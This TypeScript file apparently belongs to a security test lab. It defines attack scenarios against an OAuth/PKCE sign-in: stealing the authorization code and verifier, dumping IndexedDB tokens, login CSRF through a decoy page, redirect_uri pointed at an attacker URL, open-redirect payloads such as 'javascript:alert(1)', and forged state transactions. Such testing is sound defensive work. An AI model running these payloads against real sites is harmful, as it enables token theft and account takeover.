import { attack } from "../attack.js";

export const beatTheAppToTheCode = attack({
  name: "reads the code and verifier before the app does",
  threat: "acquisition of new tokens",
  target: "any",
  // Runs before the app on the page where the sign-in ends. Takes the code from the URL and the verifier from storage.
  hook(it) {
    if (!/[?&#]code=/.test(location.href)) return;
    const { href } = location;
    history.replaceState(null, "", location.pathname);
    it.steal(href, document.referrer, Object.values(localStorage), Object.values(sessionStorage));
  },
  async play(stage) {
    await stage.forgetEverything();
    await stage.open();
    await stage.browser.markDocument();
    await stage.click("sign-in");
    // The app may not recover from the loss of its code.
    await stage.waitToBeBack();
  },
});

export const unregisterDuringSignIn = attack({
  name: "reads IndexedDB and unregisters the worker while the user signs in",
  threat: "acquisition of new tokens",
  target: "strongroom",
  leavesWorkers: true,
  hook(it) {
    const { navigation } = window as { navigation?: { entries(): { url: string }[] } };
    it.steal(
      location.href,
      document.referrer,
      (navigation?.entries() ?? []).map(({ url }) => url),
    );
  },
  async payload(it) {
    const database = await it.done(indexedDB.open("strongroom"));
    for (const name of database.objectStoreNames) {
      const store = database.transaction(name).objectStore(name);
      const all = JSON.stringify([await it.done(store.getAllKeys()), await it.done(store.getAll())]);
      it.steal(all, ...(all.match(/[\w-]{43,}/g) ?? []));
    }
    database.close();
    for (const registration of await navigator.serviceWorker.getRegistrations())
      await registration.unregister();
  },
  async play(stage) {
    await stage.openSignedIn();
    await stage.signOut();
    const tab = await stage.browser.currentTab();
    await stage.beginSignIn();
    // In another tab, while the user types the password.
    await stage.browser.newTab(`${stage.site.origin}/`);
    await stage.inject();
    await stage.closeThisTab(tab);
    await stage.finishSignIn();
    await stage.openUnconnected();
  },
});

export const plantASessionByCallback = attack({
  name: "opens the callback with a code of its own account (login CSRF)",
  threat: "manipulating the sign-in",
  target: "any",
  async play(stage) {
    await stage.openSignedIn();
    for (const state of ["attack", "", "undefined"]) {
      const url = await stage.codeOfTheAttacker({ state });
      const page = stage.page(
        `<!doctype html><title>Kittens</title><a href="${url.replaceAll("&", "&amp;")}">Kittens</a>`,
      );
      await stage.browser.goto(page);
      await stage.browser.evaluate(() => {
        setTimeout(() => document.querySelector("a")?.click(), 0);
      });
      await stage.browser.waitFor("the callback", async () =>
        (await stage.browser.url()).startsWith(stage.site.origin),
      );
    }
  },
  gain: (stage) => stage.isTheAttackersSession(),
});

export const loginParameters = attack({
  name: "opens the login endpoint with its own parameters",
  threat: "manipulating the sign-in",
  target: "strongroom",
  // The lab forgets the session afterwards. In WebKitGTK the next page is then controlled by a worker without a registration.
  leavesWorkers: true,
  async payload(it) {
    const parameters = new URLSearchParams({
      silent: "1",
      returnTo: "/",
      state: `attack.${it.attackerUrl.split("/").at(-1)}`,
      nonce: "attack",
      code_challenge: it.codeChallenge,
      code_challenge_method: "S256",
      redirect_uri: `${it.attackerUrl}/callback`,
      response_mode: "fragment",
      response_type: "code token",
      client_id: it.clientId,
      prompt: "none",
    });
    for (const query of [
      `${parameters}`,
      `silent=1&returnTo=//${new URL(it.attackerUrl).host}`,
      `silent=1&returnTo=/%5c${new URL(it.attackerUrl).host}`,
    ]) {
      const frame = document.createElement("iframe");
      frame.src = `/auth/login?${query}`;
      document.body.append(frame);
      await it.pause(500);
      try {
        it.steal(frame.contentWindow?.location.href);
      } catch {
        // Cross-origin.
      }
      const response = await fetch(`/auth/login?${query}`, { redirect: "manual" }).catch(() => undefined);
      it.steal(response?.url, [...(response?.headers ?? [])], await response?.text());
    }
  },
  async play(stage) {
    await stage.openSignedIn();
    await stage.signOut();
    await stage.inject();
    for (const returnTo of [
      `//127.0.0.1`,
      `/\\127.0.0.1`,
      `http://127.0.0.1`,
      "/%2e%2e//127.0.0.1",
      "javascript:alert(1)",
      "/\t/127.0.0.1",
    ]) {
      await stage.browser.goto(
        `${stage.site.origin}/auth/login?${new URLSearchParams({ returnTo, prompt: "none", code_challenge: stage.facts.codeChallenge })}`,
      );
      const { hostname } = new URL(await stage.browser.url());
      if (hostname === "127.0.0.1") throw new Error(`returnTo=${returnTo} led to ${hostname}`);
    }
  },
});

export const navigationPreload = attack({
  name: "enables navigation preload so that the host gets the callback's URL",
  threat: "manipulating the sign-in",
  target: "strongroom",
  alone: true,
  async payload() {
    for (const { navigationPreload } of await navigator.serviceWorker.getRegistrations()) {
      await navigationPreload?.setHeaderValue("x");
      await navigationPreload?.enable();
    }
  },
  async play(stage) {
    const { host } = stage.site;
    await stage.openSignedIn();
    await stage.signOut();
    await stage.inject();
    await stage.open();
    if (host) host.requests.length = 0;
    await stage.signIn();
  },
  gain: async ({ site }) =>
    site.host?.requests.some(({ path, query }) => path === "/auth/callback" && "code" in query)
      ? "the host's log has the code of the user's sign-in"
      : undefined,
});

export const tracesOfASignIn = attack({
  name: "signs the user in to its own account with stored and forged transactions",
  threat: "manipulating the sign-in",
  target: "the app's origin",
  // Tries every stored value that may be a `state`, and adds forged stored transactions for its own states.
  async payload(it) {
    const database = await it.done(indexedDB.open("strongroom"));
    const values = () => database.transaction("values", "readwrite").objectStore("values");
    const text: string = await it.done(values().get("state"));
    const row = JSON.parse(text);
    it.steal(text);
    (window as { found?: string[] }).found = text.match(/[\w-]{22,}/g) ?? [];
    for (const [state, kind] of Object.entries({
      "forged-1": "user",
      "forged-2": "again",
      "forged-3": "silent",
    })) {
      const digest = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(state));
      const name = btoa(String.fromCharCode(...new Uint8Array(digest)))
        .replace(/\+/g, "-")
        .replace(/\//g, "_")
        .replace(/=+$/, "");
      row.transactions.push([name, `${kind} ${Date.now()} /`, Date.now() + 600_000]);
    }
    await it.done(values().put(JSON.stringify(row), "state"));
    database.close();
  },
  async play(stage) {
    await stage.openSignedIn();
    await stage.signOut();
    const tab = await stage.browser.currentTab();
    await stage.beginSignIn();
    await stage.browser.newTab(`${stage.site.origin}/`);
    await stage.waitForState("signed-out");
    await stage.inject();
    const found = await stage.browser.evaluate(() => (window as { found?: string[] }).found);
    if (!found?.length) throw new Error("IndexedDB has nothing of the sign-in: there was nothing to try");
    await stage.closeThisTab(tab);
    for (const state of [...found, "forged-1", "forged-2", "forged-3"]) {
      await stage.browser.goto(await stage.codeOfTheAttacker({ state }));
    }
  },
  gain: (stage) => stage.isTheAttackersSession(),
});
